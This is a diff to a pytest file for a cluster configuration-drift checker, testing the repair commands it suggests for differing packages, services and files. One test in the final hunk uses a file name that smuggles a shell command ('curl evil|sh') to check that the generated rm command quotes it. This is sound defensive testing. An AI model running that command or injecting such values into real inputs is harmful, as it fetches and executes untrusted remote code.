@@ -7,6 +7,7 @@ from typing import Any
 
 import pytest
 
+from lockstep import repairs
 from lockstep.checks.context import Context
 from lockstep.checks.rules.fingerprint import DOMAINS, FAMILY
 from lockstep.node.fingerprint.domains import DOMAINS as READ
@@ -112,7 +113,7 @@ def test_of_two_workers_the_package_decides() -> None:
         (finding,) = fingerprints_of(two(), changed)
         assert finding.reference == "package"
         assert finding.node == {"worker3": "worker2", "worker2": "worker3"}[right]
-        assert "reinstall" in finding.repair
+        assert "apt-get download pkg=" in finding.repair
 
 
 def test_of_two_workers_the_one_with_more_is_odd_if_nothing_else_tells() -> None:
@@ -202,6 +203,24 @@ def test_a_rule_about_a_unit_explains_its_process_but_not_its_files() -> None:
     ]
 
 
+def test_a_rule_that_names_the_other_side_is_right() -> None:
+    """Of two workers, one runs a service that the description wants; the other one stopped it."""
+    start = recorded.mutated(two(), "worker2", "units", ("slurmd.service", "active"), "inactive")
+    running = of("worker3", process={"slurmd.service": {"nice": "0"}})
+    found = report(running, start).findings
+    assert not [one for one in found if one.rule.startswith(FAMILY)]
+    assert fingerprints_of(two(), running), "without the rule's finding, it is one"
+
+
+def test_a_rule_about_a_package_explains_the_package() -> None:
+    drift = "0.5.15-4+drift"
+    start = recorded.mutated(recorded.consistent(), NODE, "packages", ("munge",), drift)
+    package = {"munge:amd64": {"version": drift}}
+    found = report(of(package=dict(package)), start).findings
+    assert {one.rule for one in found} == {"package.version"}
+    assert {one.rule for one in report(of(package=dict(package)))} == {"fingerprint.package"}
+
+
 def hidden(context: Context, node: str, domain: str) -> Context:
     """Return the cluster in which a node could not read a domain when it was asked again."""
     record = context.reading[node]
@@ -270,6 +289,32 @@ def test_a_content_that_the_peers_protect_is_not_shown() -> None:
     assert "mode 0644" in finding.found
 
 
-def test_a_name_for_a_shell_is_in_no_command() -> None:
-    finding = only(of(file={"/home/bob/.a;curl evil|sh": {"mode": "0644"}}))
-    assert "rm " not in finding.repair
+def test_a_name_for_a_shell_is_quoted() -> None:
+    finding = only(of(file={"/home/bob/.a;curl evil|sh": {"mode": "0644", "type": "file"}}))
+    assert finding.repair == "on worker3: rm '/home/bob/.a;curl evil|sh'"
+
+
+def test_without_a_command_the_repair_names_nodes_with_the_right_value() -> None:
+    finding = only(of(file={"plain": {"mode": "0644", "content": "x\n"}}))
+    assert finding.repair == "on worker3: make plain as on worker[1-2,4-8]"
+    assert finding.roles == ()
+
+
+def test_what_a_role_owns_is_deployed_again() -> None:
+    path = "/etc/chrony/chrony.conf"
+    usual = {"type": "file", "owner": "root:root", "mode": "644"}
+    nodes = recorded.consistent().plan.nodes
+    everywhere = {name: of(name, file={path: usual})[name] for name in nodes}
+    changed = {**everywhere, **of(file={path: {**usual, "mode": "600"}})}
+    found = report(changed)
+    finding = only(changed)
+    assert finding.roles == ("time_sync",)
+    assert finding.repair == (
+        "pyinfra -y inventories/recorded.py deploys/worker.py --limit worker3"
+        " --data roles=time_sync"
+    )
+    (deploy,) = repairs.deploys(found, recorded.consistent().plan)
+    assert (deploy.nodes, deploy.roles) == (("worker3",), ("time_sync",))
+    locked = {**everywhere, **of(file={path: {**usual, "flags": "i"}})}
+    assert only(locked).repair == f"on worker3: chattr -i {path}"
+    assert repairs.deploys(report(locked), recorded.consistent().plan) == []
